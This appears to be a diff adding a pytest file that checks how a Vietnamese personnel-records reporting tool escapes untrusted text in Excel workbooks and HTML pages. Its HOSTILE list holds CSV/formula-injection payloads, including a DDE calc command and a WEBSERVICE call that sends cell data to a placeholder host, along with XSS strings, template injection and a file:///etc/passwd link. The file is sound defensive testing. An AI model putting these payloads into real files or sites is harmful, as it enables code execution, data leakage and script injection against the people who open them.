@@ -1,0 +1,198 @@
+"""Hostile text through every output: shown as text, executed nowhere."""
+
+import ast
+import re
+from html.parser import HTMLParser
+from pathlib import Path
+
+import openpyxl
+import pandas as pd
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+import hoso.connectors.untrusted
+from hoso.connectors.reports import charts, marked
+from hoso.connectors.reports.province_page import province_page
+from hoso.connectors.reports.unit_page import unit_page
+from hoso.connectors.templates.build import build
+from hoso.connectors.untrusted import CELL_LIMIT, clean, put_link
+from hoso.validators.rules.context import units_frame
+
+from .conftest import AS_OF, PERIOD, UNIT
+from .programs import convert
+
+HOSTILE = [
+    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example","y")', "=WEBSERVICE(\"http://x.example/\"&A1)", "{=1+1}", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1",
+    "\n=1+1", "'=1+1", "%0A=1", "#REF!", "#N/A", "TRUE", "0012", "1E5", "12/03/1980", "037085012345678",
+    "http://x.example/", "mailto:a@x.example", "file:///etc/passwd", "internal:'Lỗi'!A1", "external:c:\\x.xlsx", "<script>alert(1)</script>", "</style><script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "<svg onload=alert(1)>", "{{ 7*7 }}",
+    "{% raw %}", "]]>", "&amp;&lt;", "_x000D_ _x0041_", "a\x00b\x07c\x1b[31m", "a\ufffeb\uffff", "\u202egnp.exe", "\u2066a\u2069\u200f", "a" * 40_000, "😀" * 20_000,
+]  # fmt: skip
+
+
+def test_there_are_forty():
+    assert len(set(HOSTILE)) == 40
+
+
+def frames(month, text):
+    """The month with *text* in every place that others write."""
+    nguoi = month.records.nguoi.copy()
+    for name in ("ho_ten", "noi_sinh", "chuc_vu", "ma_don_vi_su_dung", "ma_ngach", "dan_toc", "ngay_sinh", "ghi_chu"):
+        nguoi[name] = pd.Series(text, index=nguoi.index, dtype=object)
+    findings = month.findings.copy()
+    for name in ("rule", "file", "sheet", "value", "proposal", "person", "detail", "title", "message", "fix", "law"):
+        findings[name] = pd.Series(text, index=findings.index, dtype=object)
+    return type(month.records)(nguoi, month.records.con, month.records.raw, {}, month.records.tables.assign(sheet=text), month.records.columns), findings
+
+
+def texts_of(book):
+    for sheet in book:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if cell.value is not None:
+                    yield sheet.title, cell
+
+
+def check_workbook(path, text):
+    book = openpyxl.load_workbook(path)
+    expected = clean(text)
+    # openpyxl takes the break of a line apart from its escape, and gives an escape as it stands in the file.
+    expected = re.sub(r"_(x[0-9A-Fa-f]{4}_)", r"_x005F_\1", expected)
+    seen = 0
+    for _, cell in texts_of(book):
+        assert cell.data_type != "f", (cell.coordinate, cell.value)
+        assert cell.data_type in ("s", "n"), (cell.coordinate, cell.data_type)
+        seen += cell.value == expected
+        assert cell.hyperlink is None or (cell.hyperlink.target is None and re.fullmatch(r"'[\w ,]+'![A-Z]+\d+", cell.hyperlink.location))
+    return seen
+
+
+@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
+def test_in_workbooks(tmp_path, month, text):
+    records, findings = frames(month, text)
+    marked.write_marked(tmp_path / "a.xlsx", unit=text, unit_name=text, records=records, findings=findings, as_of=AS_OF, period=PERIOD, previous=findings.assign(fingerprint="y"))
+    build(tmp_path / "b.xlsx", as_of=AS_OF, records=records, unit=text, unit_name=text)
+    for name in ("a.xlsx", "b.xlsx"):
+        assert check_workbook(tmp_path / name, text) >= 5 * len(records.nguoi)
+
+
+class _Tags(HTMLParser):
+    def __init__(self, html):
+        super().__init__()
+        self.tags, self.names, self.words = [], set(), []
+        self.feed(html)
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append(tag)
+        self.names |= {n for n, _ in attrs}
+
+    def handle_data(self, data):
+        self.words.append(data)
+
+
+@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
+def test_in_pages(month, text):
+    """The page has the very same elements as with harmless text, and the text itself stands in it."""
+
+    def pages(text):
+        records, findings = frames(month, text)
+        units = units_frame([{"code": UNIT, "name": text, "valid_from": ""}, {"code": "X", "name": text, "valid_from": ""}])
+        scores = pd.DataFrame({"unit": [text], **dict.fromkeys(("đúng", "đủ", "sạch", "sống", "thống nhất", "dùng chung"), 1.0)})
+        plan = pd.DataFrame({"id": ["1"], "kind": [text]})
+        yield unit_page(unit=text, unit_name=text, records=records, findings=findings, as_of=AS_OF, period=PERIOD, plan=plan)
+        yield province_page(units=units, records=records, findings=findings, as_of=AS_OF, period=PERIOD, place=text, scores=scores, plan=plan)
+        yield str(charts.bars(text, [(text, 1.0, "error")]))
+
+    for hostile, tame in zip(pages(text), pages("lành"), strict=True):
+        seen, expected = _Tags(hostile), _Tags(tame)
+        assert seen.tags == expected.tags and seen.names == expected.names
+        assert not re.search("[\x00-\x08\x0b-\x1f\u202a-\u202e\u2066-\u2069\ud800-\udfff]", hostile)
+        if len(text) < 40 and not re.search(r"\d{9}", text):
+            assert clean(text).strip() in "".join(seen.words)
+
+
+def test_libreoffice_calculates_none_of_it(tmp_path, month):
+    """All of it in one workbook, opened and saved again by a program that would calculate."""
+    records, findings = frames(month, "lành")
+    small = [t for t in HOSTILE if len(t) < 1_000]
+    people = pd.concat([records.nguoi.iloc[[0]]] * len(small), ignore_index=True)
+    people["ho_ten"] = pd.Series(small, dtype=object)
+    records = type(records)(people, records.con, records.raw.iloc[:0].reindex(people.index), {}, records.tables, records.columns)
+    build(tmp_path / "a.xlsx", as_of=AS_OF, records=records)
+    again = openpyxl.load_workbook(convert(tmp_path / "a.xlsx", "xlsx:Calc MS Excel 2007 XML", tmp_path / "out"))
+    cells = [c for _, c in texts_of(again)]
+    assert not [c.value for c in cells if c.data_type in "fe"]
+    names = {str(row[0].value) for row in again["Hồ sơ"]["C3:C60"]}
+    assert {"=1+1", "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "0012", "1E5", "http://x.example/"} <= names
+
+
+@given(st.text(alphabet=st.characters(categories=None), max_size=300))
+def test_clean_gives_what_xml_may_hold_and_nothing_changes_twice(text):
+    done = clean(text)
+    assert clean(done) == done
+    done.encode("utf-8")
+    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\ufffe\uffff]", done)
+
+
+@given(st.text(alphabet="aà😀", min_size=0, max_size=60), st.integers(10, 40))
+def test_clean_cuts_by_the_units_of_the_format(text, limit):
+    done = clean(text, limit)
+    assert len(done.encode("utf-16-le")) // 2 <= limit
+    assert done == text or (done.endswith("…") and text.startswith(done[:-1]))
+
+
+def test_vietnamese_is_left_alone():
+    for text in ("Nguyễn Thị Hòa", "Đặng Văn Ước", "Trường THPT\nHoa Lư", "a\tb"):
+        assert clean(text) == text
+    assert len(clean("a" * 40_000)) == CELL_LIMIT
+
+
+@pytest.mark.parametrize(("sheet", "cell"), [("a'b", "A1"), ("Lỗi", "A1'!x"), ("Lỗi", "A0"), ("x" * 32, "A1"), ("[x]y", "A1")])
+def test_links_lead_only_to_our_cells(sheet, cell):
+    with pytest.raises(ValueError):
+        put_link(None, 0, 0, sheet, cell, "x")
+
+
+CONNECTORS = Path(hoso.connectors.untrusted.__file__).parent
+WRITERS = {
+    "write_string", "write_number", "write_blank", "write_formula", "write_array_formula", "write_dynamic_array_formula", "write_url", "write_row",
+    "write_column", "write_rich_string", "write_datetime", "write_boolean", "write_comment", "merge_range", "add_table", "insert_textbox", "set_header",
+    "to_excel", "to_html",
+}  # fmt: skip
+
+
+def _offences(tree):
+    for node in ast.walk(tree):
+        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
+            if node.func.attr in WRITERS or (node.func.attr == "write" and len(node.args) >= 3):
+                yield node.lineno, node.func.attr
+        if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id == "Markup" and not isinstance(node.args[0], ast.Constant):
+            # The style sheet and the pieces of a chart are ours: a constant under a name.
+            if not (isinstance(node.args[0], ast.Name) and node.args[0].id == "line") and "style.css" not in ast.dump(node.args[0]):
+                yield node.lineno, "Markup"
+        if isinstance(node, ast.Assign) and any(isinstance(x, ast.Attribute) and x.attr == "value" for x in node.targets):
+            yield node.lineno, ".value ="
+
+
+def test_nothing_else_writes_untrusted_text():
+    """Workbooks and pages get text through one helper: no other module of the connectors calls the writers themselves."""
+    found = {}
+    modules = [p for p in CONNECTORS.rglob("*.py") if p.name != "untrusted.py" and "mirror" not in p.parts]
+    assert len(modules) > 10
+    for path in modules:
+        source = path.read_text("utf-8")
+        offences = [o for o in _offences(ast.parse(source)) if not (o[1] == "write" and "xlsxwriter" not in source)]
+        if offences:
+            found[str(path.relative_to(CONNECTORS))] = offences
+    assert found == {}
+
+
+def test_the_check_above_can_fail():
+    bad = "sheet.write_string(0, 0, x)\nsheet.write(0, 0, x)\ncell.value = x\nMarkup(x)\nframe.to_excel(p)\n"
+    assert [line for line, _ in _offences(ast.parse(bad))] == [1, 2, 3, 4, 5] or len(list(_offences(ast.parse(bad)))) == 5
+
+
+def test_templates_escape_everything():
+    for path in (CONNECTORS / "reports").glob("*.j2"):
+        source = path.read_text("utf-8")
+        assert "|safe" not in source.replace(" ", "") and "autoescape" not in source, path.name
